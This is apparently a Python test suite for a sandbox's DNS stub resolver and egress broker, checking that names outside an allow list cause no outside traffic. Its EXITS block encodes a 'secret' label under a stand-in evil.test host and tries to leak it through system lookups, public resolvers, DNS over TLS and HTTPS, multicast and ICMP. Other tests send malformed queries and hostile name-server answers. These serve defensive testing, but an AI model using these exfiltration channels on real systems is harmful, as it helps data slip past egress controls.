#!/usr/bin/python3 -B
"""Asking for a name tells nobody outside anything: what the stub resolver answers, and what of it is seen outside."""
import json
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), "..", "lib"))
import network  # noqa: E402
import resolver  # noqa: E402
from network import PUBLIC, World  # noqa: E402
from resolver import A, AAAA, CNAME, Answer  # noqa: E402
from wire import UDP  # noqa: E402

RULE = {"host": "origin.test", "ports": [8080]}

# Every way to ask for a name that an ordinary program has.
EXITS = r'''
name = "c2VjcmV0." + "x" * 40 + ".evil.test"
def attempt(f):
    try: f()
    except (OSError, ssl.SSLError): pass
def tcp(host, port, data):
    with socket.create_connection((host, port), 0.3) as s:
        s.settimeout(0.3); s.sendall(data); s.recv(512)
def tls(host, port):
    with socket.create_connection((host, port), 0.3) as s:
        s.settimeout(0.3); ssl._create_unverified_context().wrap_socket(s, server_hostname="dns.google")
def multicast(group, port, data):
    with socket.socket(socket.AF_INET6 if ":" in group else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.1); s.sendto(data, (group, port)); s.recv(512)
q = question(name)
attempt(lambda: socket.getaddrinfo(name, 443))
attempt(lambda: socket.gethostbyname(name))
attempt(lambda: socket.getaddrinfo("evil.test", 80, socket.AF_INET6))
attempt(lambda: socket.gethostbyaddr("93.184.216.34"))
for server in (nameserver(), "127.0.0.1", "127.0.0.53", "8.8.8.8", "2001:4860:4860::8888", "93.184.216.34", "198.18.0.1", "10.0.0.2", "169.254.169.253"):
    attempt(lambda: ask(q, server, timeout=0.1))
    attempt(lambda: ask(q, server, timeout=0.3, tcp=True))
    attempt(lambda: tls(server, 853))
    attempt(lambda: tls(server, 443))
    attempt(lambda: ask(b"\xc0" + b"\0" * 1199, server, 443, timeout=0.1))
    attempt(lambda: ask(b"\xc0" + b"\0" * 1199, server, 853, timeout=0.1))
    attempt(lambda: tcp(server, 80, b"GET /dns-query?dns=AAAB HTTP/1.1\r\nHost: dns.google\r\n\r\n"))
for host in ("dns.google", "cloudflare-dns.com", "mozilla.cloudflare-dns.com", "dns.quad9.net"):
    attempt(lambda: tls(host, 443))
for group, port in (("224.0.0.251", 5353), ("ff02::fb", 5353), ("224.0.0.252", 5355), ("ff02::1:3", 5355), ("255.255.255.255", 137), ("239.255.255.250", 1900)):
    attempt(lambda: multicast(group, port, q))
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    for family, proto, data in ((socket.AF_INET, 1, b"\x08\0\xf7\xff\0\0\0\0"), (socket.AF_INET6, 58, b"\x80\0\0\0\0\0\0\0")):
        attempt(lambda: socket.socket(family, kind, proto).sendto(data, ("8.8.8.8" if family == socket.AF_INET else "2001:4860:4860::8888", 0)))
say("end")
'''


def test_a_denied_name_causes_no_packet_outside_by_any_way_of_asking(t):
    w = World(t)
    w.origin(8080, "origin.test")
    for rules in (None, [], [RULE], [{"host": "*.origin.test", "ports": ["1-1000"]}]):
        wire = w.wire()
        before = len(wire.packets())
        r = w.python(EXITS, **({} if rules is None else {"allow": rules}), timeout=90)
        t.expect(r, code=0, out="end\n")
        t.equal(wire.packets()[before:], [], f"packets outside with the rules {rules}")
    t.equal(w.dns.questions, [], "questions")


def test_denied_names_are_counted_once_a_look_up(t):
    w = World(t)
    code = "try: socket.getaddrinfo('evil.test', 443)\nexcept OSError as e: say(word(e))"
    r = t.expect(w.python(code, allow=[RULE]), code=0, out="noname\n")
    t.equal([(d["host"], d["count"]) for d in r.denials("dns")], [("evil.test", 1)], "denials")


def test_an_allowed_name_is_resolved_only_when_it_is_connected_to(t):
    w = World(t)
    w.origin(8080, "origin.test", "second.test", "a.wild.test", "b.wild.test")
    rules = [{"host": h, "ports": [8080]} for h in ("origin.test", "second.test", "*.wild.test")]
    code = ("for n in ('origin.test', 'second.test', 'a.wild.test', 'b.wild.test', 'c2VjcmV0.wild.test'):\n"
            "    say(socket.getaddrinfo(n, 8080, type=socket.SOCK_STREAM)[0][4][0].rsplit('.', 2)[0])\n"
            "say('asked'); sys.stdin.readline()\nsay(reach('origin.test', 8080), reach('b.wild.test', 8080))")
    r = w.start_python(code, allow=rules, stdin=-1)
    for _ in range(5):
        t.equal(r.read_line(), b"198.18\n", "the address inside")
    t.equal(r.read_line(), b"asked\n", "line")
    t.equal(w.dns.asked(), set(), "questions before any connection")
    run = t.expect(r.finish(20, b"\n"), code=0, out="reached reached\n")
    t.equal(w.dns.asked(), {"origin.test", "b.wild.test"}, "questions")
    t.equal({q.kind for q in w.dns.questions} - {A, AAAA}, set(), "kinds of the questions")
    t.equal(run.denials(), [], "denials")


def test_what_the_broker_asks_is_the_name_and_nothing_else(t):
    w = World(t)
    w.origin(8080, "origin.test")
    wire = w.wire()
    t.expect(w.python("say(reach('oRiGiN.tEsT.', 8080))", allow=[RULE]), code=0, out="reached\n")
    asked = [p for p in wire.packets() if p.port == 53]
    t.check(asked and all(p.target == "127.0.0.1" and p.protocol == UDP for p in asked), f"packets to port 53: {asked}")
    for p in asked:
        t.equal(p.data[4:12], b"\0\1\0\0\0\0" + p.data[10:12], "one question and no records")
        t.equal(resolver.decode_name(p.data, 12)[0].lower(), "origin.test", "name in the question")


def test_an_address_is_stable_for_the_run_and_each_name_has_its_own(t):
    w = World(t)
    code = ("first = [socket.gethostbyname('n%d.wild.test' % i) for i in range(500)]\n"
            "again = [socket.gethostbyname('N%d.Wild.TEST.' % i) for i in range(500)]\n"
            "say(first == again, len(set(first)), all(a.startswith('198.18.') and a > '198.18.0.255' for a in first))")
    t.expect(w.python(code, allow=[{"host": "*.wild.test"}]), code=0, out="True 500 True\n")
    t.equal(w.dns.questions, [], "questions outside")


def test_other_kinds_of_records_are_an_orderly_nothing(t):
    w = World(t)
    code = ("for kind in (28, 65, 64, 15, 16, 2, 6, 33, 257, 99):\n"
            "    a = ask(question('origin.test', kind)); say(rcode(a), answers(a))\n"
            "for kind in (1, 28, 16, 255, 65): say('denied', rcode(ask(question('evil.test', kind))))\n"
            "a = ask(question('origin.test', 1)); say(rcode(a), answers(a), a[-4:-2] == bytes([198, 18]))\n"
            "try: socket.getaddrinfo('origin.test', 80, socket.AF_INET6)\nexcept OSError as e: say(word(e))")
    r = t.expect(w.python(code, allow=[RULE]), code=0)
    t.equal(r.lines, ["0 0"] * 10 + ["denied 3"] * 5 + ["0 1 True", "noname"], "answers")
    t.equal(w.dns.questions, [], "questions outside")


def test_the_stub_serves_over_tcp_too_and_keeps_the_spelling_of_the_question(t):
    w = World(t)
    code = ("for tcp in (False, True):\n    q = question('oRiGin.TEST', number=77)\n    a = ask(q, tcp=tcp)\n"
            "    say(rcode(a), answers(a), a[:2] == q[:2], a[12:12 + len(q) - 12] == q[12:], bool(a[2] & 0x80))\n"
            "s = socket.create_connection((nameserver(), 53), 5)\n"
            "for i in range(20): q = question('origin.test', number=i); s.sendall(struct.pack('!H', len(q)) + q)\n"
            "got = b''\nwhile got.count(b'origin') < 20: got += s.recv(65535)\nsay(len(got) > 800)")
    t.expect(w.python(code, allow=[RULE]), code=0, out="0 1 True True True\n" * 2 + "True\n")


def test_a_denied_name_fails_at_once(t):
    w = World(t)
    code = ("best = 9\n"
            "for i in range(50):\n"
            "    began = time.perf_counter()\n    try: socket.getaddrinfo('n%d.evil.test' % i, 443)\n    except socket.gaierror: pass\n"
            "    best = min(best, time.perf_counter() - began)\nsay(best)")
    r = t.expect(w.python(code, allow=[RULE]), code=0)
    t.between(float(r.text), 0, 0.005, "seconds, of the quickest of 50")


def test_queries_that_are_no_queries_leave_the_stub_in_order(t):
    w = World(t)
    w.origin(8080, "origin.test")
    code = r'''
import random
random.seed(7)
good = question("origin.test")
bad = [b"", b"\0", good[:11], good[:12], good[:-1], good[:-4], good + b"x", b"\xff" * 512, b"\0" * 512,
       question(b"\xc0\x0c"), question(b"\xc0\xff"), question(b"\x3f" + b"a" * 10), question(b"\x40aaaa\0"), question((b"\x3f" + b"a" * 63) * 8 + b"\0"),
       question(b"\x06origin\x04te\0t\0"), question(b"\x0borigin.test\0"), question(b"\x06ori\rin\x04test\0"), question(b"\x06origin\x04test\x04evil\0")[:-5],
       question("origin.test", flags=0x8180), question("origin.test", flags=0x2800), question("origin.test", klass=3), question("origin.test", 252), question("origin.test", 0),
       good[:4] + b"\0\2" + good[6:] + good[12:], good[:4] + b"\xff\xff" + good[6:], good[:6] + b"\xff\xff" + good[8:], good[:10] + b"\0\1" + good[12:] + b"\0\0\x29\xff\xff\0\0\0\0\0\0",
       good[:10] + b"\0\1" + good[12:] + b"\0\0\x29\xff\xff\0\0\0\0\xff\xff", good + b"\0" * 60000]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect((nameserver(), 53))
for p in bad:
    s.send(p)
for _ in range(3000):
    p = bytearray(good)
    for _ in range(random.randrange(1, 5)): p[random.randrange(len(p))] = random.randrange(256)
    s.send(p[:random.randrange(1, len(p) + 1)])
for i in range(40):
    with socket.create_connection((nameserver(), 53), 5) as c:
        c.sendall((b"\xff\xff" + bad[i % len(bad)]) if i % 2 else struct.pack("!H", len(bad[i % len(bad)]) or 1) + bad[i % len(bad)])
say(rcode(ask(good, timeout=5)), answers(ask(good, timeout=5)), reach("origin.test", 8080))
'''
    r = w.python(code, allow=[RULE])
    t.expect(r, code=0, out="0 1 reached\n")
    t.equal(w.dns.asked(), {"origin.test"}, "questions outside")


def test_names_that_a_careless_resolver_would_cut_short_are_not_allowed(t):
    w = World(t)
    w.origin(8080, "origin.test")
    code = r'''
def labels(*parts): return b"".join(bytes([len(p)]) + p for p in parts) + b"\0"
for name in (labels(b"origin", b"test\0", b"evil"), labels(b"origin.test"), labels(b"origin\0", b"test"), labels(b"origin", b"test\r\n"), labels(b"evil\0.origin", b"test"),
             labels(b"origin", b"test", b"\0"), labels(b"origin%00", b"test"), labels(b"origin", b"test "), labels(b"origin", b"te\xc0\xaet")):
    try: a = ask(question(name), timeout=0.5); say(answers(a), rcode(a) != 0)
    except socket.timeout: say("0 True")
'''
    r = t.expect(w.python(code, allow=[RULE, {"host": "*.origin.test"}]), code=0)
    t.equal(set(r.lines), {"0 True"}, f"answers: {r.lines}")
    t.equal(w.dns.questions, [], "questions outside")


# ---- Hostile answers ------------------------------------------------------------------------------------------------------


def padded(n):
    return [(A, f"93.184.{i // 250}.{i % 250 + 1}") for i in range(n)]


def test_answers_of_a_hostile_name_server(t):
    w = World(t)
    w.origin(8080)
    kinds = {
        "truncated.test": lambda q: Answer([(A, PUBLIC)] if q.kind == A else [], truncated=q.transport == "udp"),
        "big.test": lambda q: Answer(padded(1000) if q.kind == A else [], truncated=q.transport == "udp"),
        "other-id.test": lambda q: Answer([(A, PUBLIC)], other_id=True),
        "other-owner.test": lambda q: Answer([(A, PUBLIC, "somebody.else.test")]),
        "loop.test": lambda q: Answer([(CNAME, "loop2.test"), (CNAME, "loop.test", "loop2.test")]),
        "garbage.test": lambda q: Answer(raw=os.urandom(200)),
        "pointers.test": lambda q: Answer(raw=b"\x85\x80\0\1\0\1\0\0\0\0\xc0\x0c\0\1\0\1\xc0\x0c\0\1\0\1\0\0\0\0\0\4\1\2\3\4"),
        "short.test": lambda q: Answer(raw=b"\x85\x80\0\1"),
        "empty.test": lambda q: Answer(),
        "servfail.test": lambda q: Answer(rcode=resolver.SERVFAIL),
        "refused.test": lambda q: Answer(rcode=resolver.REFUSED),
        "chain.test": lambda q: Answer([(CNAME, "end.test"), (A, PUBLIC, "end.test")] if q.kind == A else []),
        "four-only.test": lambda q: Answer([(A, PUBLIC)]) if q.kind == A else Answer(silent=True),
        "origin.test": lambda q: Answer([(A, PUBLIC)] if q.kind == A else []),
    }
    for name, how in kinds.items():
        w.name(name, how)
    code = ("results = {}\ndef one(n): results[n] = reach(n, 8080, 4)\n"
            "ts = [threading.Thread(target=one, args=(n,)) for n in sys.argv[1:]]\n"
            "for x in ts: x.start()\nfor x in ts: x.join(20)\nsay(json.dumps(results))")
    r = t.expect(w.python(code, *kinds, allow=[{"host": n, "ports": [8080]} for n in kinds], timeout=40), code=0)
    found = json.loads(r.text)
    reached = {n for n, v in found.items() if v == "reached"}
    t.equal(reached, {"truncated.test", "big.test", "chain.test", "four-only.test", "origin.test"}, f"verdicts: {found}")
    # What is no answer is waited past, for as long as a resolver is patient.
    t.equal({n: v for n, v in found.items() if n not in reached and v not in ("ECONNRESET", "timeout")}, {}, "those that fail are reset")
    t.equal([n for n in ("loop.test", "empty.test") if found[n] != "ECONNRESET"], [], "those without an address are reset at once")


def test_a_slow_answer_for_one_name_holds_up_no_other(t):
    w = World(t)
    w.origin(8080, "origin.test")
    w.name("silent.test", lambda q: Answer(silent=True))
    code = ("threads = [threading.Thread(target=reach, args=('silent.test', 8080), daemon=True) for _ in range(20)]\n"
            "for x in threads: x.start()\n"
            "time.sleep(0.1)\nbegan = time.monotonic()\nsay(reach('origin.test', 8080), time.monotonic() - began < 1)\nos._exit(0)")
    rules = [{"host": h, "ports": [8080]} for h in ("origin.test", "silent.test")]
    t.expect(w.python(code, allow=rules), code=0, out="reached True\n")
    t.between(w.dns.count("silent.test", A), 1, 5, "questions for 20 connections at once")


def test_without_any_rule_there_is_no_stub_and_names_fail_at_once(t):
    w = World(t)
    code = ("began = time.monotonic()\ntry: socket.getaddrinfo('origin.test', 80)\nexcept OSError: say('none', time.monotonic() - began < 0.5)\n"
            "say(socket.gethostbyname('localhost'))")
    r = t.expect(w.python(code), code=0, out="none True\n127.0.0.1\n")
    t.equal(w.dns.questions, [], "questions outside")
    t.check(not r.denials("network"), f"denials: {r.denials()}")


def test_localhost_is_the_sandbox_itself(t):
    w = World(t)
    w.origin(8080)
    code = ("s = socket.create_server(('127.0.0.1', 8080)); threading.Thread(target=lambda: s.accept()[0].sendall(b'within ok\\n'), daemon=True).start()\n"
            "c = socket.create_connection(('localhost', 8080)); say(c.recv(100).decode().strip())")
    t.expect(w.python(code, allow=[RULE]), code=0, out="within ok\n")


if __name__ == "__main__":
    network.main(globals())
